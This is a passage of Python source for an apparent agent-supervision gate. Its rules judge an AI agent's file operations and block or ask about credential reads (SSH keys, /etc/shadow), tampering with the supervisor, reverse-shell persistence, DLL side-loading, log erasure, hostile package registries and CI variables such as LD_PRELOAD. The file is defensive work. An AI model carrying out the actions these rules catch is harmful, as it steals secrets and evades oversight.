"""Rules: file operations (`file_read`, `file_write`, `file_delete`, `file_move`).

Every rule judges the path after `gate.paths` resolved it once (`~`, `$HOME`, relative to the sandbox's
first root, `..`, symlinks). Sensitive patterns are searched in both the resolved path and the path as
written with `..` collapsed, so neither a symlink to `~/.ssh/id_rsa` nor a symlink named `.env` slips by.

Reading is not harmful in itself: an ordinary file anywhere may be read without a prompt. Reading a
credential (private key, cloud credentials, password stores, `/etc/shadow`) is blocked; reading other
sensitive files (`.env`, `secrets.yaml`, browser profiles, keychains) asks. Shell commands that print a
file follow the same vocabulary (`cat ~/.ssh/id_rsa` blocks, `cat .env` asks). Changing deskgate's own
files is blocked. Changing anything (write, delete, move)
outside the sandbox roots asks; changing a sensitive file outside them, anything in a system directory,
or deleting a root / home / a sandbox root is blocked.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterable, Iterator
from typing import TYPE_CHECKING

from gate.client_configs import plain_client_config
from gate.content import later_commands, tool_of, unofficial_sources
from gate.content import runs_later as content_runs_later
from gate.hostile_hosts import hostile_host
from gate.model import FILE_TYPES, Risk
from gate.paths import FileFacts, default_home, file_facts, is_within, new_personal_file
from gate.patterns import Patterns
from gate.rules.base import CheckResult, Context, Rule, rule
from gate.rules.shell_agents import security_software_path
from gate.shell import command_facts

if TYPE_CHECKING:
    from gate.compiled import CompiledPolicy

__all__ = ["RULES", "changed_paths", "credential_match", "sensitive_match", "system_dir_of"]

CHANGING = frozenset({"file_write", "file_delete", "file_move"})
_DRIVE_ROOT = re.compile(r"^[a-z]:/?$", re.IGNORECASE)


def path_patterns(patterns: Iterable[str]) -> Patterns:
    """A path pattern list, searched case-insensitively (file actions keep the case as written)."""
    return Patterns(patterns, re.IGNORECASE)


def credential_match(compiled: CompiledPolicy, *paths: str | None) -> str | None:
    return compiled.credentials.first(*paths)


def sensitive_match(compiled: CompiledPolicy, *paths: str | None) -> str | None:
    """A path that is sensitive (credential files included)."""
    return compiled.sensitive.first(*paths) or compiled.credentials.first(*paths)


def system_dirs(dirs: Iterable[str]) -> tuple[str, ...]:
    # Windows directories compare case-insensitively: keep them lower case (paths are lowered to match)
    return tuple(d.rstrip("/").lower() if _DRIVE_ROOT.match(d[:3]) else d.rstrip("/") or "/" for d in dirs)


def system_dir_of(compiled: CompiledPolicy, path: str) -> str | None:
    """The system directory `path` lies in (or is), or None."""
    probe = path.lower() if _DRIVE_ROOT.match(path[:3]) else path
    return next((d for d in compiled.system_dirs if is_within(probe, d)), None)


def changed_paths(facts: FileFacts) -> Iterator[tuple[str, str, bool]]:
    """(real path, path as written made absolute, inside the sandbox) for each path a change touches:
    the path itself, and a move's destination."""
    yield facts.real, facts.lexical, facts.in_sandbox
    if facts.to_real is not None and facts.to_lexical is not None:
        yield facts.to_real, facts.to_lexical, facts.to_in_sandbox


def _facts(ctx: Context) -> FileFacts | None:
    return ctx.derived(file_facts)


_VERB = {"file_read": "reading", "file_write": "writing", "file_delete": "deleting", "file_move": "moving"}


@rule("block.files.invalid-path", "a file path that cannot be resolved", risk=Risk.HIGH, types=FILE_TYPES)
def invalid_path(ctx: Context) -> CheckResult:
    """An empty path, a NUL byte or a path the resolver rejects: the gate cannot tell what it touches,
    so the action does not run (fail closed)."""
    if _facts(ctx) is None:
        return "the file path cannot be resolved (empty, NUL byte or malformed)"
    return None


@rule("block.files.credential-read", "reading a private key, credential store or password database",
      risk=Risk.HIGH, types=("file_read",))
def credential_read(ctx: Context) -> CheckResult:
    """Reading SSH/TLS private keys, cloud credential files, password stores (`.netrc`, `.pgpass`),
    browser cookie/login databases, wallets, or the system's password hashes and memory
    (`files.credential_dumps`: /etc/shadow, SAM, /dev/mem) is credential access. The same files block when
    a shell command prints them (`cat ~/.ssh/id_rsa`, `cat /etc/shadow`)."""
    f = _facts(ctx)
    if f is None:
        return None
    hit = ctx.compiled.credential_dumps.first(f.real, f.lexical)
    if hit is not None:
        return f"reading {hit}: the system's password hashes or memory"
    hit = credential_match(ctx.compiled, f.real, f.lexical)
    if hit is None:
        return None
    return f"reading {hit}: a private key or credential file"


_RX_MALICIOUS_PERSISTENCE = re.compile(r"^\s*(@\w+|([\d*/,-]+\s+){5})")
_RX_MALICIOUS_PERSISTENCE_2 = re.compile(r"^\s*(Exec\w*|ExecStart\w*)\s*=\s*-?")


@rule("block.files.malicious-persistence", "a startup file written with a network shell", risk=Risk.CRITICAL,
      types=("file_write",))
def malicious_persistence(ctx: Context) -> CheckResult:
    """A file that runs later (shell startup files, cron, systemd units, autostart, git hooks: the
    `shell.persistence_paths`) written with content that opens a reverse shell or runs downloaded code:
    judged by the same shell rules as `echo ... >> ~/.bashrc`."""
    f = _facts(ctx)
    content = getattr(ctx.action, "content", None)
    if f is None or not content:
        return None
    if not any(ctx.compiled.persistence.first(real, lex) for real, lex, _ in changed_paths(f)):
        return None
    from gate.rules.shell import findings  # the shell detectors, on the text that will run later
    from gate.shell import analyse

    for line in content[:20_000].splitlines():
        line = _RX_MALICIOUS_PERSISTENCE.sub("", line)  # a cron schedule
        line = _RX_MALICIOUS_PERSISTENCE_2.sub("", line)  # desktop / systemd entries
        if not line.strip() or line.lstrip().startswith("#"):
            continue
        # /etc/crontab lines name a user before the command: try the line with and without its first word
        for text in (line, line.strip().split(" ", 1)[-1]):
            hits = {x.rule for x in findings(analyse(text), ctx.compiled)}
            if hits & {"block.shell.reverse-shell", "block.shell.remote-code-exec"}:
                return f"writing {f.real}: it would run a network shell or downloaded code later ({line.strip()[:60]})"
    return None


@rule("block.files.supervisor-tamper", "changing deskgate's own files", risk=Risk.CRITICAL, types=CHANGING)
def supervisor_tamper(ctx: Context) -> CheckResult:
    """Writing, deleting or moving deskgate's config, policy, kill state, socket or audit log
    (`files.supervisor_paths` and the XDG directories deskgate uses): the agent attacking its supervisor."""
    f = _facts(ctx)
    if f is None:
        return None
    for real, lex, _ in changed_paths(f):
        if hit := ctx.compiled.supervisor.first(real, lex):
            return f"{_VERB[ctx.type]} {hit}: deskgate's own policy, state or audit log"
        # a directory that holds one of deskgate's (`~/.local/state`): moving it moves deskgate's files
        base = real.rstrip("/")
        if base and base != default_home() and any(ctx.compiled.supervisor.first(base + tail)
                                                   for tail in ("/deskgate", "/share/deskgate", "/state/deskgate")):
            return f"{_VERB[ctx.type]} {real}: it holds deskgate's own policy, state or audit log"
    return None


@rule("block.files.supervisor-read", "reading deskgate's own files", risk=Risk.CRITICAL, types=("file_read",))
def supervisor_read(ctx: Context) -> CheckResult:
    """Reading deskgate's audit database (and its WAL/SHM), install key, chain head, kill state, policy or
    socket (`files.supervisor_paths` and the XDG directories deskgate uses): the key recovers redacted
    secrets offline, and the supervisor opening its own database for an agent would drop its locks."""
    f = _facts(ctx)
    if f is None:
        return None
    if hit := ctx.compiled.supervisor.first(f.real, f.lexical):
        return f"reading {hit}: deskgate's own audit log, key or state"
    return None


@rule("confirm.files.sensitive-read", "reading a sensitive file", risk=Risk.MEDIUM, types=("file_read",))
def sensitive_read(ctx: Context) -> CheckResult:
    """`.env` files, `secrets.*`, `credentials*`, SSH/cloud/kube/docker config, browser profiles,
    keychains and shell history may hold secrets: a person decides whether the agent reads them."""
    f = _facts(ctx)
    if f is None or credential_match(ctx.compiled, f.real, f.lexical):
        return None  # the credential rule blocks it
    hit = ctx.compiled.sensitive.first(f.real, f.lexical)
    return f"reading {hit}: a sensitive file that may hold secrets" if hit else None


def _sensitive_change(ctx: Context, inside: bool) -> str | None:
    f = _facts(ctx)
    if f is None:
        return None
    for real, lex, in_sandbox in changed_paths(f):
        if in_sandbox == inside and (hit := sensitive_match(ctx.compiled, real, lex)):
            where = "inside" if inside else "outside"
            return f"{_VERB[ctx.type]} {hit}: a sensitive file {where} the agent's work area"
    return None


@rule("block.files.sensitive-write", "changing a sensitive file outside the sandbox", risk=Risk.HIGH,
      types=CHANGING)
def sensitive_write(ctx: Context) -> CheckResult:
    """Writing, deleting or moving a sensitive file (keys, `authorized_keys`, `.env`, credentials)
    outside the sandbox roots: tampering with or destroying secrets, or planting access. A message file
    written into a mail folder (`Outbox/reply.eml`) drafts or sends mail: it asks as being outside, not blocked."""
    if ctx.type == "file_write" and _MESSAGE_FILE.search(getattr(ctx.action, "path", "") or ""):
        return None
    return _sensitive_change(ctx, inside=False)


_MESSAGE_FILE = re.compile(r"\.(?:eml|emlx|msg)$", re.IGNORECASE)  # one mail message, not a store or its index


@rule("confirm.files.sensitive-write", "changing a sensitive file inside the sandbox", risk=Risk.MEDIUM,
      types=CHANGING)
def sensitive_write_inside(ctx: Context) -> CheckResult:
    """The same change to a sensitive file inside the sandbox (a project's own `.env`) asks. A package manager's
    settings written with only keys that make installs stricter (`ignore-scripts=true`) pass."""
    found = _sensitive_change(ctx, inside=True)
    if found is not None and ctx.type == "file_write":
        from gate.rules.file_configs import hardening_only

        f = _facts(ctx)
        content = getattr(ctx.action, "content", None) or ""
        if f is not None and hardening_only(f.raw.replace("\\", "/"), content):
            return None
    return found


@rule("confirm.files.runs-later", "writing a file that runs later", risk=Risk.HIGH, types=CHANGING)
def runs_later(ctx: Context) -> CheckResult:
    """Writing, or moving into place, a file that runs later without anyone typing it: shell startup
    files, git hooks, cron, units, autostart (`shell.persistence_paths`), CI pipelines and hook managers
    (`files.runs_later`). Asks inside the project too: a project's `.git/hooks` and CI files keep their
    rules when the project is the agent's work area. Deleting one does not run anything: not this rule."""
    if ctx.type == "file_delete":
        return None
    f = _facts(ctx)
    if f is None:
        return None
    targets = ((f.real, f.lexical),) if ctx.type == "file_write" else ((f.to_real, f.to_lexical),)
    for real, lex in targets:
        if real is not None and ctx.compiled.runs_later.first(real, lex):
            from gate.rules.autorun_files import ci_is_plain
            from gate.rules.file_configs import plain_config

            if ctx.type == "file_write" and (ctx.derived(ci_is_plain) or ctx.derived(plain_config)):
                return None  # the project's own pipeline, hooks or tasks that only fetch, build, lint and test
            where = _short(real, ctx.compiled.home)
            return f"{_VERB[ctx.type]} {where}: a file that runs later, without anyone typing it"
    return None


# a program or a library by its name: what Windows starts or loads (a screen saver, a Control Panel item)
# (not .com: a file named for a site, `example.com`, is far more common than a DOS program)
_PROGRAM_FILE = re.compile(r"\.(?:dll|exe|scr|cpl|sys|ocx|drv|pif|msi|hta)$", re.IGNORECASE)


@rule("block.files.dropped-program", "writing a program or a library outside the work area", risk=Risk.CRITICAL,
      types=("file_write", "file_move"))
def dropped_program(ctx: Context) -> CheckResult:
    """Writing, or moving into place, a program or a library (`.dll`, `.exe`, `.scr`, `.cpl`, `.sys`...) outside the
    work area: beside an application that loads a library by its name (DLL side-loading), in a folder anyone can
    write to, or where a screen saver or a Run key starts it. An agent builds programs inside its project; one
    written anywhere else waits to be run or loaded. Inside the work area (a build's output) it passes."""
    f = _facts(ctx)
    if f is None:
        return None
    targets = ((f.real, f.in_sandbox),) if ctx.type == "file_write" else ((f.to_real, f.to_in_sandbox),)
    for real, inside in targets:
        if real is not None and not inside and _PROGRAM_FILE.search(real):
            return f"{_VERB[ctx.type]} {_short(real, ctx.compiled.home)}: a program or library placed outside the " \
                "work area, where another program loads or starts it"
    return None


def _system_config(ctx: Context, real: str, lex: str) -> bool:
    """A service's or a tool's own settings inside a system directory (`files.system_config`)."""
    return ctx.type != "file_delete" and ctx.compiled.system_config.first(real, lex) is not None


@rule("block.files.system-dir", "changing a system directory", risk=Risk.CRITICAL, types=CHANGING)
def system_dir(ctx: Context) -> CheckResult:
    """Writing into, deleting in, or moving into or out of /etc, /usr, /bin, /boot, /sys, /proc, /dev
    (and the other `files.system_dirs`): that breaks or backdoors the system. A service's own settings there
    (`files.system_config`: a web server's or a proxy's configuration, the login banner) ask instead
    (`confirm.files.system-config`). A security agent's files, rules or state deleted or moved away (Santa's
    /var/db/santa, an EDR's folder under /Library or Program Files) block too."""
    f = _facts(ctx)
    if f is None:
        return None
    for real, lex, _ in changed_paths(f):
        d = system_dir_of(ctx.compiled, real) or system_dir_of(ctx.compiled, lex)
        if d is not None and not _system_config(ctx, real, lex):
            return f"{_VERB[ctx.type]} {real}: inside the system directory {d}"
    if ctx.type in ("file_delete", "file_move") and security_software_path(f.real.lower()):
        # a security agent's program, rules or state (`/var/db/santa`) taken away, as `rm` of it is
        return f"{_VERB[ctx.type]} {f.real}: a security agent's files; nothing then watches what runs"
    return None


@rule("block.files.log-tamper", "changing, deleting or moving a system log", risk=Risk.CRITICAL, types=CHANGING)
def log_tamper(ctx: Context) -> CheckResult:
    """Writing over, deleting or moving a file of the system's logs (`shell.log_paths`: /var/log, utmp and
    wtmp, Windows' event logs): the record of what happened on the machine erased or rewritten, as `rm` or `>`
    of the same file in a shell is (`block.shell.anti-forensics`)."""
    logs = ctx.compiled.shell.logs
    f = _facts(ctx) if logs is not None else None
    if f is None:
        return None
    for real, lex, _ in changed_paths(f):
        if logs.search(real) or logs.search(lex):
            return f"{_VERB[ctx.type]} {real}: a system log, the record of what happened on this machine"
    return None


@rule("confirm.files.system-config", "changing a service's settings in a system directory", risk=Risk.HIGH,
      types=CHANGING)
def system_config(ctx: Context) -> CheckResult:
    """Writing or moving a service's or a tool's own settings in a system directory (`files.system_config`: a web
    server's, a proxy's or a database's configuration, editors' system-wide defaults, the login banner,
    /usr/local/etc): an administrator's edit, which changes how a service runs for everyone, so it asks, as
    `sudo tee` of the same file does. Deleting one, and every other file of a system directory, blocks
    (`block.files.system-dir`)."""
    f = _facts(ctx)
    if f is None:
        return None
    for real, lex, _ in changed_paths(f):
        d = system_dir_of(ctx.compiled, real) or system_dir_of(ctx.compiled, lex)
        if d is not None and _system_config(ctx, real, lex):
            return f"{_VERB[ctx.type]} {real}: a service's settings in the system directory {d}"
    return None


def _is_root_like(path: str, roots: tuple[str, ...], home: str) -> str | None:
    if path == "/" or _DRIVE_ROOT.match(path):
        return "the filesystem root"
    if path == home:
        return "the home directory"
    if is_within(home, path):
        return "a directory that contains the home directory"
    if path in roots:
        return "a sandbox root"
    if any(is_within(r, path) for r in roots):
        return "a directory that contains a sandbox root"
    if _DRIVE_ROOT.match(path[:3]):
        # under a drive root only Windows' own top-level folders are the system's; another one (`C:\Download
        # Temp`, `D:\Projects`) is a folder someone made there: deleting it asks as any folder outside does
        body = path.split(":", 1)[1]
        if body.count("/") == 1 and body[1:].lower() in _WINDOWS_TOP:
            return "a top-level system directory"
        return None
    if path.count("/") == 1:
        return "a top-level directory"
    return None


_WINDOWS_TOP = frozenset({"windows", "users", "program files", "program files (x86)", "programdata",
                          "documents and settings", "recovery", "system volume information", "$recycle.bin",
                          "boot", "efi", "perflogs", "windows.old", "msocache", "intel", "drivers", "config.msi",
                          "inetpub", "pagefile.sys", "hiberfil.sys", "swapfile.sys", "bootmgr"})


@rule("block.files.delete-root", "deleting a root, home or a sandbox root", risk=Risk.CRITICAL,
      types=("file_delete", "file_move"))
def delete_root(ctx: Context) -> CheckResult:
    """Deleting (or moving away) `/`, a drive root, a top-level directory, the home directory, a
    directory above it, or a sandbox root itself."""
    f = _facts(ctx)
    if f is None:
        return None
    home = ctx.compiled.home
    what = _is_root_like(f.real, f.roots, home) or _is_root_like(f.lexical, f.roots, home)
    if what is None:
        return None
    return f"{_VERB[ctx.type]} {f.real}: {what}"


@rule("confirm.files.outside-sandbox", "changing files outside the sandbox", risk=Risk.MEDIUM, types=CHANGING)
def outside_sandbox(ctx: Context) -> CheckResult:
    """Writing, deleting or moving a file whose resolved path is outside every `files.sandbox_roots` and
    outside the session's project directories (`Observation.work_dirs`: the work area). Creating a new document,
    sheet, picture or source file in a person's own folders (`files.personal_new_files`) passes; writing over
    an existing file there asks."""
    f = _facts(ctx)
    if f is None:
        return None
    outside = [real for real, _, inside in changed_paths(f) if not inside]
    if not outside or ctx.derived(new_personal_file) or ctx.derived(plain_client_config):
        return None  # (a new everyday file of the person's, a data client's plain options)
    home = ctx.compiled.home
    where = ", ".join(_short(r, home) for r in f.roots) or "none set"
    return f"{_VERB[ctx.type]} {_short(outside[0], home)}: outside the agent's work area ({where})"


def _short(path: str, home: str) -> str:
    """`path` with the home directory written `~`, as a person reads it."""
    return "~" + path[len(home):] if is_within(path, home) else path


@rule("confirm.files.traversal", "path traversal", risk=Risk.HIGH, types=FILE_TYPES)
def traversal(ctx: Context) -> CheckResult:
    """`..` that climbs out of the directory the path starts in (the working directory for a relative
    path, `/` or a sandbox root for an absolute one), or that lands in a system directory."""
    f = _facts(ctx)
    if f is None:
        return None
    for raw, lex, trav in ((f.raw, f.lexical, f.traversal), (f.to_raw, f.to_lexical, f.to_traversal)):
        if raw is None or lex is None:
            continue
        if trav or (".." in raw and system_dir_of(ctx.compiled, lex)):
            return f"path traversal: {raw!r} resolves to {lex}"
    return None


@rule("confirm.files.symlink-escape", "a symlink out of the sandbox", risk=Risk.HIGH, types=FILE_TYPES)
def symlink_escape(ctx: Context) -> CheckResult:
    """A path written inside the sandbox that really (through a symlink) points outside it."""
    f = _facts(ctx)
    if f is None:
        return None
    if f.symlink_escape:
        return f"{f.raw!r} is inside the sandbox but a symlink leads to {f.real}"
    if f.to_symlink_escape:
        return f"{f.to_raw!r} is inside the sandbox but a symlink leads to {f.to_real}"
    return None


# -- a developer tool's settings that make it run a command or fetch code the next time it runs ---------------------
# gate/content.py says what a settings file makes its tool run (`tool_runs`) and where it sends it for packages
# (`package_sources`); the commands it names are judged by the shell rules in gate/rules/content.py (a settings file
# whose command blocks, blocks there). The shell's own writes of the same files (`echo ... > .npmrc`, a here-document
# into `.pre-commit-config.yaml`) are read here too, and so are the files a CI runner reads its next steps'
# environment from.


def _source_host(source: str) -> str:
    from urllib.parse import urlsplit

    try:
        url = source.split("+", 1)[-1] if source.lower().startswith(("git+", "sparse+", "registry+")) else source
        return (urlsplit(url).hostname or "").lower()
    except ValueError:
        return ""


def _hostile_source(sources: list[str]) -> tuple[str, str] | None:
    """(address, why) of the first package source whose host names itself an attacker's or is a bare public
    address."""
    from gate.rules.shell_sources import public_address

    for source in sources:
        host = _source_host(source)
        if not host:
            continue
        if (word := hostile_host(host)) is not None:
            return source, f"a host named as hostile ({word})"
        if public_address(source) is not None:
            return source, "a bare public address"
    return None


def _written(ctx: Context) -> tuple[str, str] | None:
    """(path, content) of a file write, or None."""
    if ctx.type != "file_write":
        return None
    f = _facts(ctx)
    content = getattr(ctx.action, "content", None)
    if f is None or not content:
        return None
    return f.lexical if f.raw and not f.raw.startswith(("/", "~")) else f.real, content


def _config_verdict(path: str, content: str) -> tuple[str | None, str | None]:
    """(block reason, confirm reason) for settings `content` at `path`, by what they make a tool run or fetch."""
    from gate.content import package_sources, tool_runs

    sources = package_sources(path, content)
    if sources and (hostile := _hostile_source(sources)) is not None:
        return f"{path} sends a package manager to {hostile[0][:60]}, {hostile[1]}: every later install runs what it " \
               f"serves", None
    runs = tool_runs(path, content)
    if runs is not None:
        return None, f"{path} is a tool's settings, and {runs}"
    if sources:
        return None, f"{path} sends a package manager to {sources[0][:60]}, not the ecosystem's own registry: " \
                     f"every later install takes what it serves"
    return None, None


_NO_VERDICT: tuple[str | None, str | None] = (None, None)


def _written_config_verdict(ctx: Context) -> tuple[str | None, str | None]:
    """`_config_verdict` of the file this action writes, once per assessment (two rules read it)."""
    written = _written(ctx)
    return _NO_VERDICT if written is None else _config_verdict(*written)


@rule("block.files.hostile-package-source", "a package registry or index set to a hostile host in a settings file",
      risk=Risk.CRITICAL, types=("file_write",))
def hostile_package_source(ctx: Context) -> CheckResult:
    """A settings file written (`.npmrc`, `.yarnrc.yml`, `pip.conf`, `requirements.txt` and pip's option files,
    `.cargo/config.toml`, `bunfig.toml`, `.pypirc`, `.condarc`, NuGet.config, a Gradle or Maven wrapper's
    `distributionUrl`) whose registry, index or download address is a host named as an attacker's
    (`gate/hostile_hosts.py`) or a bare public address: every later install by anyone runs what it serves."""
    block, _ = ctx.derived(_written_config_verdict)
    return block


@rule("confirm.files.tool-runs-command", "a tool's settings written that make it run a command or fetch packages "
      "elsewhere", risk=Risk.HIGH, types=("file_write",))
def tool_runs_command(ctx: Context) -> CheckResult:
    """A settings file written that makes a developer tool run a command or load code at its next run: a coding
    agent's MCP servers and hooks (`.mcp.json`, `.gemini/settings.json`, `.cursor/mcp.json`), an editor's terminal
    profiles and folder-open tasks, pre-commit `system`/`script` hooks, Terraform `external` data and `local-exec`
    provisioners, Yarn's `yarnPath` and plug-ins, npm's `script-shell`, a manifest's install-time scripts (other than
    a project's ordinary build steps), git's fsmonitor, filters and hooks folder, `.gitattributes` filters, pylint's
    `init-hook`, Bazel's status command, cargo's runner, a dev container's create commands, MSBuild's `Exec` in
    `Directory.Build.props`, mise hooks, a JVM agent in Gradle's or Maven's options. Or one that points a package
    registry or index at a host other than the ecosystem's own (`registry=`, `--extra-index-url`, `-r -`, cargo's
    `replace-with`). Formatting options and the official registries pass."""
    block, confirm = ctx.derived(_written_config_verdict)
    if block is not None:
        return None
    from gate.rules.file_configs import plain_config

    return None if confirm is None or ctx.derived(plain_config) else confirm


_ENV_FILES = re.compile(r"^(?:\$\{?(?:env:)?(github_env|github_path|bash_env)\}?)$", re.IGNORECASE)
_AZURE = re.compile(r"##vso\[task\.(setvariable|prependpath)\b([^\]]*)\](.*)", re.IGNORECASE)
_GH_LEGACY = re.compile(r"^::(set-env|add-path)(?:\s+name=([\w.-]+))?::(.*)$", re.IGNORECASE)
_ENV_LINE = re.compile(r"^\s*([A-Za-z_][A-Za-z0-9_]*)=(.*)$")
_ENV_HEREDOC = re.compile(r"^\s*([A-Za-z_][A-Za-z0-9_]*)<<(\S+)\s*$")
_RUN_TIME = re.compile(r"\$\(|`|<\(")
_TEMP = re.compile(r"(^|[\s:=\"';])(/tmp|/var/tmp|/dev/shm|/private/tmp|\$\{?tmpdir\}?|\$\(mktemp|%te?mp%|\$env:te?mp|"
                   r"c:/(windows/)?temp|c:/users/public|c:/programdata|/users/[^/]+/appdata/local/temp)(/|[\s:;\"']|$)",
                   re.IGNORECASE)
_WRITE_OPS = frozenset({">", ">>", ">|", "&>", "&>>"})


def _text_of(cmd, analysis) -> str:
    """The text `cmd` writes: an echo's or printf's words, a here-document, or what echo/printf pipe into it."""
    argv = cmd.argv
    if cmd.name in ("add-content", "set-content", "write-output", "write-host"):
        if cmd.name in ("write-output", "write-host"):
            return " ".join(a for a in argv[1:] if not a.startswith("-"))
        low = [a.lower() for a in argv]
        if "-value" in low[1:-1]:
            return argv[low.index("-value") + 1]
        positional = [a for k, a in enumerate(argv[1:], 1) if not a.startswith("-") and
                      not low[k - 1].startswith(("-path", "-literalpath", "-encoding"))]
        if len(positional) >= 2:
            return positional[1]
    if cmd.name == "echo":
        words = list(argv[1:])
        while words and words[0] in ("-n", "-e", "-E", "-ne", "-en"):
            words.pop(0)
        return " ".join(words)
    if cmd.name == "printf" and len(argv) >= 2:
        if len(argv) == 2:
            return argv[1].replace("\\n", "\n")
        if argv[1].replace("\\n", "").replace("\n", "").strip() == "%s":
            return "\n".join(argv[2:])
        return argv[1].replace("\\n", "\n") + "\n" + "\n".join(argv[2:])
    if cmd.stdin_text:
        return cmd.stdin_text
    if cmd.upstream:
        return "\n".join(t for i in cmd.upstream if (t := _text_of(analysis.commands[i], analysis)))
    return ""


def _targets(cmd) -> list[str]:
    out = [t for op, t in cmd.redirects if op in _WRITE_OPS]
    if cmd.name == "tee":
        out.extend(a for a in cmd.argv[1:] if not a.startswith("-"))
    elif cmd.name in ("add-content", "set-content", "out-file"):
        argv = cmd.argv
        low = [a.lower() for a in argv]
        named = [argv[k + 1] for k, a in enumerate(low[:-1]) if a in ("-path", "-filepath", "-literalpath")]
        positional = [a for k, a in enumerate(argv[1:], 1) if not a.startswith("-") and
                      not (low[k - 1].startswith("-") and low[k - 1] not in ("-append", "-force", "-nonewline"))]
        out.extend(named or positional[:1])
    return out


def _env_settings(kind: str, text: str) -> list[tuple[str, str]]:
    """(name, value) pairs a CI runner's environment file gets (`github_path`: ("path", folder))."""
    out: list[tuple[str, str]] = []
    lines = text.splitlines()
    i = 0
    while i < len(lines):
        line = lines[i]
        i += 1
        if kind == "github_path":
            if line.strip():
                out.append(("PATH", f"{line.strip()}:$PATH"))
            continue
        if (m := _ENV_HEREDOC.match(line)) is not None:
            body = []
            while i < len(lines) and lines[i].strip() != m.group(2):
                body.append(lines[i])
                i += 1
            i += 1
            out.append((m.group(1), "\n".join(body)))
        elif (m := _ENV_LINE.match(line)) is not None:
            out.append((m.group(1), m.group(2).strip().strip("'\"")))
    return out


def _ci_settings(analysis) -> list[tuple[str, str, str]]:
    """(file, name, value) for every variable a command hands a CI runner for its later steps, and ("bash_env", "",
    code) for code appended to the file bash reads at each step's start."""
    out: list[tuple[str, str, str]] = []
    for cmd in analysis.commands:
        text = ""
        for target in _targets(cmd):
            m = _ENV_FILES.match(target.strip("\"'"))
            if m is None:
                continue
            kind = m.group(1).lower()
            text = text or _text_of(cmd, analysis)
            if not text:
                continue
            if kind == "bash_env":
                out.append(("bash_env", "", text))
            else:
                out.extend((kind, name, value) for name, value in _env_settings(kind, text))
        if cmd.name in ("echo", "printf", "write-host", "write-output"):
            said = _text_of(cmd, analysis)
            for line in said.splitlines():
                if (m := _AZURE.search(line)) is not None:
                    if m.group(1).lower() == "prependpath":
                        out.append(("azure", "PATH", f"{m.group(3).strip()}:$PATH"))
                    elif (v := re.search(r"variable=([\w.-]+)", m.group(2), re.IGNORECASE)) is not None:
                        out.append(("azure", v.group(1), m.group(3).strip()))
                elif (m := _GH_LEGACY.match(line.strip())) is not None:
                    if m.group(1).lower() == "add-path":
                        out.append(("github_path", "PATH", f"{m.group(3).strip()}:$PATH"))
                    elif m.group(2):
                        out.append(("github_env", m.group(2), m.group(3).strip()))
    return out


def _judge_shell(ctx: Context, command: str):
    from gate.model import Shell
    from gate.rules.typed import judge_as

    return judge_as(Shell(command=command), ctx)


_HOOK_RULES = ("confirm.shell.env-hook", "block.shell.loader-hook")


def _ci_verdict(ctx: Context) -> tuple[str | None, str | None]:


    analysis = ctx.derived(command_facts)
    if analysis is None:
        return None, None
    src = analysis.source.lower()
    if "github_" not in src and "bash_env" not in src and "##vso[" not in src and "::set-env" not in src and \
            "::add-path" not in src:
        return None, None
    confirm: str | None = None
    for kind, name, value in _ci_settings(analysis)[:20]:
        where = {"github_env": "$GITHUB_ENV", "github_path": "$GITHUB_PATH", "bash_env": "$BASH_ENV",
                 "azure": "the pipeline's variables"}[kind]
        if kind == "bash_env":
            block, ask = _judge_shell(ctx, value)
            if block is not None:
                return f"writes into {where}, which bash runs before every later step: {block.reason}", None
            if ask is not None and confirm is None:
                confirm = f"writes into {where}, which bash runs before every later step: {ask.reason}"
            continue
        for inner in re.findall(r"\$\(([^()]*(?:\([^()]*\)[^()]*)*)\)|`([^`]*)`", value):
            code = inner[0] or inner[1]
            if code.strip() and (hit := _judge_shell(ctx, code)[0]) is not None:
                return f"hands {name}=... to every later step through {where}, and {hit.reason}", None
        value = value.replace("\\", "/")  # a Windows runner's path, read as the same folders
        block, ask = _judge_shell(ctx, f"export {name}={shlex.quote(value)}")
        if block is not None:
            return f"hands {name} to every later step through {where}: {block.reason}", None
        if ask is None or ask.rule not in _HOOK_RULES:
            continue  # a plain variable (VERSION=1.2), or a folder that shadows nothing
        if _RUN_TIME.search(value) or _TEMP.search(value):
            what = "a command run then" if _RUN_TIME.search(value) else "a temporary path"
            return f"hands {name}={value[:50]} to every later step through {where}: a variable that makes programs " \
                   f"load or run code, set to {what}", None
        if confirm is None:
            confirm = f"hands {name}={value[:50]} to every later step through {where}: {ask.reason}"
    return None, confirm


def _ci_facts(ctx: Context) -> tuple[str | None, str | None]:
    return _ci_verdict(ctx)


@rule("block.shell.ci-env-poisoning", "a CI runner's later steps handed a variable that runs code", risk=Risk.CRITICAL,
      types=("shell", "type"), needs="line")
def ci_env_poisoning(ctx: Context) -> CheckResult:
    """A line written to the files a CI runner reads its later steps' environment from (`$GITHUB_ENV`,
    `$GITHUB_PATH`, CircleCI's `$BASH_ENV`; Azure's `##vso[task.setvariable]`/`##vso[task.prependpath]`, the old
    `::set-env`/`::add-path` commands) that sets a variable making programs load or run code (`BASH_ENV`,
    `LD_PRELOAD`, `NODE_OPTIONS=--require`, `PYTHONPATH`, `GIT_SSH_COMMAND`, `PATH`...) to a command substitution or
    a temporary folder, or code the shell rules block: every later step of the pipeline, with its secrets, runs it."""
    return ctx.derived(_ci_facts)[0]


@rule("confirm.shell.ci-env-hook", "a CI runner's later steps handed a variable that loads code", risk=Risk.HIGH,
      types=("shell", "type"), needs="line")
def ci_env_hook(ctx: Context) -> CheckResult:
    """The same files given a code-loading variable of any other value (`NODE_OPTIONS=--require ./hook.js`,
    `LD_LIBRARY_PATH=/opt/x`), or code appended to `$BASH_ENV` that the shell rules ask about. Plain variables
    (`VERSION=1.2`, `NODE_OPTIONS=--max-old-space-size=4096`) and ordinary tool folders on `$GITHUB_PATH` pass."""
    block, confirm = ctx.derived(_ci_facts)
    return None if block is not None else confirm


def _shell_config(ctx: Context) -> tuple[str | None, str | None]:
    """(block, confirm) for settings files a shell command writes (echo, printf, tee, a here-document)."""

    analysis = ctx.derived(command_facts)
    if analysis is None or ("redirect" not in analysis.features and "tee" not in analysis.source):
        return None, None
    from gate.rules.build_poison import build_leak, scanner_off

    confirm: str | None = None
    for cmd in analysis.commands:
        for target in _targets(cmd):
            path = target.strip("'\"")
            kind = content_runs_later(path)
            # a build's file made to send its secrets, or a scanner's settings made to ignore everything
            if (written := _text_of(cmd, analysis).replace("\\n", "\n").replace("\\t", "\t")).strip():
                leak, printed = build_leak(path, written)
                if leak is not None:
                    return f"writes {leak}", None
                off = scanner_off(path, written)
                confirm = confirm or printed or (None if off is None else f"writes {path}, turning the security "
                                                                          f"scan off ({off})")
